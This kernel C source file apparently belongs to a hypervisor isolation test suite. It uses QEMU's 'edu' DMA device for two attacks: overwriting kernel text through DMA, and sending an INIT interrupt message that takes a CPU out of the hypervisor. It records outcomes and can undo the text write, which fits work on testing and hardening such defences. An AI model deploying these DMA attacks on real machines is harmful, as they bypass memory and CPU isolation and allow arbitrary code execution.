// SPDX-License-Identifier: GPL-2.0-only
/*
 * A device writes for the attacker. QEMU's teaching device (-device edu,dma_mask=0xffffffff)
 * copies between memory and a buffer of its own.
 */
#include <linux/delay.h>
#include <linux/kernel.h>
#include <linux/mm.h>
#include <linux/pci.h>
#include <linux/smp.h>
#include <asm/apic.h>

#include "attack.h"
#include "memory.h"
#include "resume.h"

#define EDU_VENDOR 0x1234
#define EDU_DEVICE 0x11e8

/* Registers, from the start of BAR 0. */
#define EDU_SOURCE	0x80
#define EDU_DESTINATION 0x88
#define EDU_COUNT	0x90
#define EDU_COMMAND	0x98

#define EDU_RUN	   1 /* stays set until done */
#define EDU_TO_RAM 2
#define EDU_BUFFER 0x40000 /* in the device's own numbering */

#define WINDOW \
	16 /* bytes around the target that are compared, and written with one changed \
	    */

struct edu {
	struct pci_dev *pci;
	void __iomem *bar;
	u8 *bounce; /* below 16 MiB, which every mask reaches */
};

static int edu_copy(struct edu *e, u64 from, u64 to, u64 count, u64 command)
{
	/* 30 s: the emulator of a busy machine does it when it finds time. By the clock, since
	 * delay loops of CPUs that share a thread are over early. */
	unsigned long end = jiffies + 30 * HZ;

	writeq(from, e->bar + EDU_SOURCE);
	writeq(to, e->bar + EDU_DESTINATION);
	writeq(count, e->bar + EDU_COUNT);
	writeq(command | EDU_RUN, e->bar + EDU_COMMAND);
	while (readq(e->bar + EDU_COMMAND) & EDU_RUN) {
		if (time_after(jiffies, end))
			return -ETIMEDOUT;
		msleep(1);
	}
	return 0;
}

static int edu_read(struct edu *e, u64 pa, u64 count)
{
	int err = edu_copy(e, pa, EDU_BUFFER, count, 0);

	return err ? err : edu_copy(e, EDU_BUFFER, virt_to_phys(e->bounce), count, EDU_TO_RAM);
}

static int edu_write(struct edu *e, u64 pa, u64 count)
{
	int err = edu_copy(e, virt_to_phys(e->bounce), EDU_BUFFER, count, 0);

	return err ? err : edu_copy(e, EDU_BUFFER, pa, count, EDU_TO_RAM);
}

static int edu_open(struct edu *e)
{
	int err;

	e->pci = pci_get_device(EDU_VENDOR, EDU_DEVICE, NULL);
	if (!e->pci)
		return -ENODEV;
	err = pci_enable_device(e->pci);
	if (err)
		goto put;
	pci_set_master(e->pci);
	err = -ENOMEM;
	e->bar = pci_iomap(e->pci, 0, 0);
	if (!e->bar)
		goto disable;
	e->bounce = (u8 *)__get_free_page(GFP_KERNEL | GFP_DMA);
	if (!e->bounce)
		goto unmap;
	return 0;
unmap:
	pci_iounmap(e->pci, e->bar);
disable:
	pci_disable_device(e->pci);
put:
	pci_dev_put(e->pci);
	return err;
}

static void edu_close(struct edu *e)
{
	free_page((unsigned long)e->bounce);
	pci_iounmap(e->pci, e->bar);
	pci_disable_device(e->pci);
	pci_dev_put(e->pci);
}

/*
 * Has the device write value over the target. A device with a narrow mask writes somewhere
 * else: what it reads must be what is there.
 */
static int edu_poke(struct edu *e, struct attempt *t, u8 value)
{
	u8 *start = t->va - WINDOW / 2;
	u64 pa = ((u64)t->pfn << PAGE_SHIFT) + offset_in_page(start);
	int err = edu_read(e, pa, WINDOW);

	if (err)
		return err;
	if (memcmp(e->bounce, start, WINDOW)) {
		attack_note(t, "the device does not reach %llx", pa);
		return -EFAULT;
	}
	e->bounce[WINDOW / 2] = value;
	return edu_write(e, pa, WINDOW);
}

static int device_poke(struct attempt *t, u8 value)
{
	struct edu e = { 0 };
	int err = edu_open(&e);

	if (err)
		return err;
	err = edu_poke(&e, t, value);
	edu_close(&e);
	return err;
}

static enum attack_outcome dma_text(struct attempt *t)
{
	int err = memory_target_text(t);

	if (!err)
		err = device_poke(t, t->wanted);
	attack_note(t, "DMA: %d", err);
	return err ? ATTACK_ERROR : ATTACK_SUCCEEDED;
}

static int dma_undo(struct attempt *t)
{
	return device_poke(t, t->was);
}

/* ---- a message that is an interrupt: the address says to whom, the value what ---- */

#define MESSAGES_PA 0xfee00000

static enum attack_outcome send_init(struct attempt *t, struct edu *e, unsigned int victim)
{
	int err = resume_hold(victim);
	bool stopped;

	if (err)
		return ATTACK_ERROR;
	*(u32 *)e->bounce = APIC_INT_ASSERT | APIC_DM_INIT;
	err = edu_write(e, MESSAGES_PA + (cpu_physical_id(victim) << 12), sizeof(u32));
	stopped = !err && resume_stopped();
	attack_note(t, "DMA: %d, CPU %u %s", err, victim, stopped ? "is gone" : "runs");
	err = resume_return(stopped);
	attack_note(t, ", back in service: %d", err);
	return stopped ? ATTACK_SUCCEEDED : ATTACK_REFUSED;
}

static enum attack_outcome init_device(struct attempt *t)
{
	struct edu e = { 0 };
	enum attack_outcome outcome;

	if (num_online_cpus() != 2 || edu_open(&e))
		return ATTACK_ERROR;
	outcome = send_init(t, &e, cpumask_last(cpu_online_mask));
	edu_close(&e);
	return outcome;
}

static const struct attack device_attacks[] = {
	{
		.name = "dma-text",
		.title = "have a device write kernel text",
		.gives = "any code in the kernel",
		.asset = "text",
		.control = ATTACK_BARE,
		.needs = "edu",
		.reason = "the IOMMU is not taken over: devices reach all of memory",
		.run = dma_text,
		.look = memory_look,
		.undo = dma_undo,
	},
	{
		.name = "init-device",
		.title = "have a device send INIT to another CPU",
		.gives = "a CPU that has left the hypervisor",
		.asset = "restart of a CPU",
		.reason = "interrupts are not remapped: a device's message reaches any CPU",
		.control = ATTACK_BARE,
		.cpus = 2,
		.own_vm = true,
		.run = init_device,
	},
};

const struct attack_table device_table = { device_attacks, ARRAY_SIZE(device_attacks) };
